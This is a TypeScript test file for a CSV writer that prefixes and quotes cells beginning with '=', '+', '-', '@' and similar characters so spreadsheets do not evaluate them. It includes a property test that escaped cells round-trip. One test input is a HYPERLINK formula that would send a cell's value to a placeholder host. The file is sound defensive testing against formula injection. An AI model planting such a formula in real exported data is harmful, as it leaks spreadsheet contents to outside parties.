import fc from 'fast-check';
import { expect, it } from 'vitest';
import { asText, fromText } from '../../shared/csv-formula.ts';
import { csvText } from '../../shared/csv-text.ts';

it('quotes what would be read as something else, and nothing more', () => {
  expect(csvText([['owner', 'a,b', 'say "hi"', ' x', 'two\nlines', ''], ['Ana']])).toBe(
    'owner,"a,b","say ""hi"""," x","two\nlines",\r\nAna\r\n',
  );
});

it.each([
  ['=1+1', "'=1+1"],
  ['+49 30 1234', "'+49 30 1234"],
  ['-2+3', "'-2+3"],
  ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
  ['  =1+1', `'  =1+1`],
  ['＝1+1', "'＝1+1"],
  ['\t=1+1', `"'\t=1+1"`],
  ['\r=1+1', `"'\r=1+1"`],
  ['=HYPERLINK("http://a.example/?"&A1,"x")', `"'=HYPERLINK(""http://a.example/?""&A1,""x"")"`],
  ["'=1+1", "''=1+1"],
])('writes %j so that no spreadsheet computes it: %s', (cell, written) => {
  expect(csvText([['Ana', cell]])).toBe(`Ana,${written}\r\n`);
});

it.each(['a=b', 'jean-luc', "'quoted'", "o'=x", '10', ''])('leaves %j alone', (cell) => {
  expect(csvText([[cell]])).toBe(`${cell}\r\n`);
});

it('is read back as it was, however many apostrophes stand before it', () => {
  const text = fc.array(fc.constantFrom("'", '=', '-', '@', '＝', ' ', '\t', '\r', 'a')).map((chars) => chars.join(''));
  fc.assert(fc.property(fc.oneof(text, fc.string()), (cell) => fromText(asText(cell)) === cell));
});
